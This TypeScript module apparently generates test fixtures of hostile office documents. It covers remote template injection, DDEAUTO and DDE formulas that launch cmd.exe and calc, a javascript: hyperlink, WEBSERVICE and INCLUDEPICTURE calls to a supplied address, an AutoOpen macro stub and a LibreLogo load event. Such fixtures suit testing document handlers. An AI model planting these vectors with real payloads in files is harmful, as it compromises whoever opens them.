import { zipOf } from "./zip";

const head = '<?xml version="1.0" encoding="UTF-8"?>';
const relationships = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const names = `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${relationships}"`;

const related = (kind: string, target: string, mode = "") =>
  `${head}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${relationships}/${kind}" Target="${target}"${mode}/></Relationships>`;

const elsewhere = (kind: string, target: string) => related(kind, target, ' TargetMode="External"');

const types = (...parts: [name: string, type: string][]) =>
  `${head}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>${parts
    .map(
      ([name, type]) =>
        `<Override PartName="/${name}" ContentType="application/vnd.openxmlformats-officedocument.${type}+xml"/>`,
    )
    .join("")}</Types>`;

/** A Word document of these paragraphs and one that says Whereas. */
export const docx = (body: string, more: Record<string, string> = {}) =>
  zipOf({
    "[Content_Types].xml": types(["word/document.xml", "wordprocessingml.document.main"]),
    "_rels/.rels": related("officeDocument", "word/document.xml"),
    "word/document.xml": `${head}<w:document ${names}><w:body>${body}<w:p><w:r><w:t>Whereas</w:t></w:r></w:p></w:body></w:document>`,
    ...more,
  });

const field = (instruction: string) =>
  docx(`<w:p><w:fldSimple w:instr="${instruction}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>`);

const xlsx = (formula: string) => {
  const sheet = `xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${relationships}"`;
  return zipOf({
    "[Content_Types].xml": types(
      ["xl/workbook.xml", "spreadsheetml.sheet.main"],
      ["xl/worksheets/sheet1.xml", "spreadsheetml.worksheet"],
    ),
    "_rels/.rels": related("officeDocument", "xl/workbook.xml"),
    "xl/_rels/workbook.xml.rels": related("worksheet", "worksheets/sheet1.xml"),
    "xl/workbook.xml": `${head}<workbook ${sheet}><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    "xl/worksheets/sheet1.xml": `${head}<worksheet ${sheet}><sheetData><row r="1"><c r="A1"><f>${formula}</f></c></row></sheetData></worksheet>`,
  });
};

const odt = (before: string, body: string) => {
  const uses = ["office", "text", "script"]
    .map((name) => `xmlns:${name}="urn:oasis:names:tc:opendocument:xmlns:${name}:1.0"`)
    .join(" ");
  const more =
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"';
  return zipOf({
    mimetype: "application/vnd.oasis.opendocument.text",
    "content.xml": `${head}<office:document-content ${uses} ${more} office:version="1.2">${before}<office:body><office:text><text:p>Whereas ${body}</text:p></office:text></office:body></office:document-content>`,
    "META-INF/manifest.xml": `${head}<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`,
  });
};

/** Documents of office programs that reach for an address, or run something where they are opened carelessly. */
export const hostileOffice = (address: string): Record<string, string | Buffer> => ({
  "template.docx": docx("", {
    "word/_rels/document.xml.rels": related("settings", "settings.xml"),
    "word/settings.xml": `${head}<w:settings ${names}><w:attachedTemplate r:id="rId1"/></w:settings>`,
    "word/_rels/settings.xml.rels": elsewhere("attachedTemplate", `${address}/template.dotm`),
  }),
  "link.docx": docx('<w:p><w:hyperlink r:id="rId1"><w:r><w:t>click</w:t></w:r></w:hyperlink></w:p>', {
    "word/_rels/document.xml.rels": elsewhere("hyperlink", "javascript:pwned('link.docx')"),
  }),
  "dde.docx": field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot;"),
  "picture.docx": field(`INCLUDEPICTURE &quot;${address}/picture.png&quot; \\d`),
  "macros.docm": docx("", { "word/vbaProject.bin": "Attribute VB_Name = AutoOpen" }),
  "service.xlsx": xlsx(`_xlfn.WEBSERVICE("${address}/service")`),
  "command.xlsx": xlsx("cmd|'/c calc.exe'!A1"),
  "events.odt": odt(
    '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:LibreLogo/LibreLogo.py$run?language=Python&amp;location=share"/></office:event-listeners></office:scripts>',
    "",
  ),
  "picture.odt": odt(
    "",
    `<draw:frame draw:name="f"><draw:image xlink:href="${address}/picture.png" xlink:type="simple"/></draw:frame>`,
  ),
  "object.rtf": `{\\rtf1\\ansi {\\*\\template ${address}/t}{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata 0105000001000000}} Whereas\\par}`,
});
